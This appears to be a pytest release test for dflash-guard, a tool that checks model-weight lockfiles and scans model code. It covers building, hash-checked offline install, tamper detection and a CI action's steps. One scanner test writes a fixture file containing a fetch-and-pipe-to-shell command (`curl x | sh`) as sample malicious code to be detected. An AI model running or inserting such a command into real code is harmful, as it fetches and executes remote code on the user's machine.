"""The release, end to end and offline: build the sdist and wheel, `twine check` them, install
the wheel in a fresh venv with the action's own install step (`--require-hashes` from
requirements/release.txt, wheels from the local wheelhouse only), then run the installed tool and
the action's run step.

One venv serves the whole module (installing torch is most of the cost).
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from packaging.utils import canonicalize_name

from dflash_guard import __version__
from dflash_guard.pins.lockfile import load_lockfile
from tests.support.release import (
    RELEASE_LOCK,
    REPO,
    clean_env,
    run_action_step,
    wheelhouse,
)

# Installing torch into a fresh venv takes about a minute of CPU; on a busy machine far longer.
pytestmark = [pytest.mark.slow, pytest.mark.timeout(900)]

COPY_IGNORE = shutil.ignore_patterns(
    ".git", ".venv", ".wheelhouse", "build", "dist", "*.egg-info", "__pycache__", ".*_cache",
    ".hypothesis", "demo-out",
)


@pytest.fixture(scope="module")
def dist(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """`python -m build` (sdist, then the wheel from it) of a copy of this checkout."""
    source = tmp_path_factory.mktemp("source") / "dflash-guard"
    shutil.copytree(REPO, source, ignore=COPY_IGNORE)
    out = tmp_path_factory.mktemp("dist")
    subprocess.run(
        [sys.executable, "-m", "build", "--no-isolation", "--outdir", str(out), str(source)],
        check=True, capture_output=True, text=True, env=clean_env(), timeout=300,
    )
    return out


@pytest.fixture(scope="module")
def action_env(tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    """The runner's variables for the action's steps; pip sees only the local wheelhouse."""
    runner = tmp_path_factory.mktemp("runner")
    (runner / "github_path").touch()
    return clean_env(**{
        "PIP_NO_INDEX": "1",
        "PIP_FIND_LINKS": str(wheelhouse()),
        "PIP_CONFIG_FILE": os.devnull,
        "PIP_NO_COMPILE": "1",  # byte-compiling torch would double the install time
        "PIP_DISABLE_PIP_VERSION_CHECK": "1",
        "GITHUB_PATH": str(runner / "github_path"),
        "github.action_path": str(REPO),
        "runner.temp": str(runner),
        "steps.python.outputs.python-path": sys.executable,
    })


@pytest.fixture(scope="module")
def venv_bin(dist: Path, action_env: dict[str, str], tmp_path_factory) -> Path:
    """The action's install step, fed the built wheel: a fresh venv, every dependency checked
    against release.txt's hashes, then the wheel with --no-deps, then `pip check`."""
    wheel = next(dist.glob("*.whl"))
    result = run_action_step(
        "install", {"version": __version__}, action_env, tmp_path_factory.mktemp("install"),
        overrides={"DG_SOURCE": str(wheel)},
    )
    assert result.returncode == 0, result.stdout + result.stderr
    assert f"dflash-guard {__version__}" in result.stdout
    venv = Path(action_env["runner.temp"]) / "dflash-guard-venv"
    assert Path(action_env["GITHUB_PATH"]).read_text().strip() == str(venv / "bin")
    return venv / "bin"


def _run(venv_bin: Path, *args: object, cwd: Path) -> subprocess.CompletedProcess[str]:
    env = clean_env(PATH=os.pathsep.join([str(venv_bin), "/usr/bin", "/bin"]))
    return subprocess.run([str(a) for a in args], cwd=cwd, env=env, capture_output=True,
                          text=True, timeout=300)


@pytest.fixture(scope="module")
def installed_pair(venv_bin: Path, tmp_path_factory) -> Path:
    """The built-in pair, written by the installed tool (from the weights inside the wheel)."""
    folder = tmp_path_factory.mktemp("pair")
    assert _run(venv_bin, "dflash-guard", "fixtures", "make", folder, cwd=folder).returncode == 0
    return folder


def test_sdist_and_wheel_pass_twine_check(dist: Path):
    files = sorted(dist.iterdir())
    assert sorted(f.suffix for f in files) == [".gz", ".whl"]
    result = subprocess.run([sys.executable, "-m", "twine", "check", "--strict", *map(str, files)],
                            capture_output=True, text=True, env=clean_env(), timeout=120)
    assert result.returncode == 0, result.stdout + result.stderr
    assert result.stdout.count("PASSED") == 2


def test_wheel_ships_the_policies_the_builtin_pair_and_the_license(dist: Path):
    names = set(zipfile.ZipFile(next(dist.glob("*.whl"))).namelist())
    expected = {
        "dflash_guard/py.typed",
        *(f"dflash_guard/policies/{name}.yaml" for name in ("default", "strict", "dev")),
        *(f"kernels_ref/fixture_weights/{name}.safetensors" for name in ("target", "drafter")),
        "kernels_ref/prompts/default.jsonl",
    }
    assert expected <= names
    assert any(name.endswith(".dist-info/licenses/LICENSE") for name in names)  # Apache-2.0 text


def test_the_venv_holds_exactly_the_locked_packages(venv_bin: Path, tmp_path: Path):
    result = subprocess.run(
        [sys.executable, "-m", "pip", "--python", str(venv_bin / "python"), "list",
         "--format", "json"], capture_output=True, text=True, env=clean_env(), timeout=120,
    )
    installed = {canonicalize_name(p["name"]): p["version"] for p in json.loads(result.stdout)}
    locked = {canonicalize_name(p.name): p.version for p in load_lockfile(RELEASE_LOCK).packages}
    assert installed == {**locked, "dflash-guard": __version__}


def test_the_installed_tool_is_the_wheel_and_verifies_the_release_lock(
    venv_bin: Path, installed_pair: Path, tmp_path: Path
):
    where = _run(venv_bin, venv_bin / "python", "-c",
                 "import dflash_guard; print(dflash_guard.__file__)", cwd=tmp_path)
    assert Path(where.stdout.strip()).is_relative_to(venv_bin.parent)

    shutil.copytree(installed_pair, tmp_path / "pair")  # written by the installed tool
    roots = ("--root", f"target={tmp_path / 'pair' / 'target'}",
             "--root", f"drafter={tmp_path / 'pair' / 'drafter'}")
    verified = _run(venv_bin, "dflash-guard", "verify", "--lock", RELEASE_LOCK, *roots,
                    cwd=tmp_path)
    assert verified.returncode == 0, verified.stdout + verified.stderr

    weights = tmp_path / "pair" / "drafter" / "model.safetensors"
    data = bytearray(weights.read_bytes())
    data[-1] ^= 1
    weights.write_bytes(bytes(data))
    tampered = _run(venv_bin, "dflash-guard", "verify", "--lock", RELEASE_LOCK, *roots,
                    cwd=tmp_path)
    assert tampered.returncode == 1
    assert "MISMATCH" in tampered.stdout


def test_the_install_step_refuses_a_wrong_hash(action_env: dict[str, str], tmp_path: Path):
    """One wrong hash and the action installs nothing (pip's hash-checking mode)."""
    requirements = tmp_path / "release.txt"
    requirements.write_text(f"typer==0.29.2 --hash=sha256:{'ab' * 32}\n")
    env = {**action_env, "runner.temp": str(tmp_path), "GITHUB_PATH": str(tmp_path / "path")}
    result = run_action_step("install", {}, env, tmp_path,
                             overrides={"DG_REQUIREMENTS": str(requirements)})
    assert result.returncode != 0
    assert "DO NOT MATCH THE HASHES" in result.stderr
    assert not (tmp_path / "path").exists()


def _run_step(venv_bin: Path, inputs: dict[str, str], tmp_path: Path):
    output = tmp_path / "github_output"
    env = clean_env(PATH=os.pathsep.join([str(venv_bin), "/usr/bin", "/bin"]),
                    GITHUB_OUTPUT=str(output))
    result = run_action_step("run", inputs, env, tmp_path)
    annotations = [line for line in result.stdout.splitlines() if line.startswith("::error")]
    return result, annotations, output.read_text() if output.exists() else ""


def test_run_step_passes_a_verified_lock(venv_bin: Path, installed_pair: Path, tmp_path: Path):
    roots = f"target={installed_pair / 'target'}\ndrafter={installed_pair / 'drafter'}\n"
    result, annotations, output = _run_step(
        venv_bin, {"command": "verify", "lockfile": str(RELEASE_LOCK), "roots": roots}, tmp_path)
    assert result.returncode == 0, result.stdout + result.stderr
    assert annotations == []
    assert output == "exit-code=0\n"


def test_run_step_annotates_a_tampered_lockfile(venv_bin: Path, installed_pair: Path,
                                                tmp_path: Path):
    lock = tmp_path / "dflash.lock"
    tampered = RELEASE_LOCK.read_text().replace(" 709 - config.json", " 710 - config.json", 1)
    assert tampered != RELEASE_LOCK.read_text()
    lock.write_text(tampered)
    roots = f"target={installed_pair / 'target'}\ndrafter={installed_pair / 'drafter'}"
    result, annotations, output = _run_step(
        venv_bin, {"command": "verify", "lockfile": str(lock), "roots": roots}, tmp_path)
    assert result.returncode == 2
    assert len(annotations) == 1
    assert annotations[0].startswith("::error title=dflash-guard verify (exit 2)::error: ")
    assert "digest" in annotations[0]
    assert output == "exit-code=2\n"


def test_run_step_writes_sarif_and_annotates_findings(venv_bin: Path, tmp_path: Path):
    model = tmp_path / "models" / "drafter"
    model.mkdir(parents=True)
    (model / "modeling_drafter.py").write_text("import os\nos.system('curl x | sh')\n")
    sarif = tmp_path / "out" / "dflash-guard.sarif"
    sarif.parent.mkdir()
    result, annotations, output = _run_step(
        venv_bin, {"command": "scan", "roots": "models/", "sarif": str(sarif)}, tmp_path)
    assert result.returncode == 1, result.stdout + result.stderr
    assert json.loads(sarif.read_text())["version"] == "2.1.0"
    assert len(annotations) == 1
    assert annotations[0].startswith("::error title=dflash-guard scan (exit 1)::")
    assert output == "exit-code=1\n"


@pytest.mark.parametrize(
    ("inputs", "reason"),
    [
        ({"command": "deploy"}, "command must be verify, scan, gate or audit, not 'deploy'"),
        ({"command": "scan"}, "scan needs roots"),
        ({"command": "verify", "args": "--no-such-flag"}, "error: No such option: --no-such-flag"),
    ],
    ids=["unknown-command", "scan-without-roots", "usage-error"],
)
def test_run_step_annotates_input_errors_in_one_line(
    venv_bin: Path, tmp_path: Path, inputs: dict[str, str], reason: str
):
    result, annotations, output = _run_step(venv_bin, inputs, tmp_path)
    assert result.returncode == 2
    assert len(annotations) == 1 and reason in annotations[0], result.stdout + result.stderr
    assert output == "exit-code=2\n"
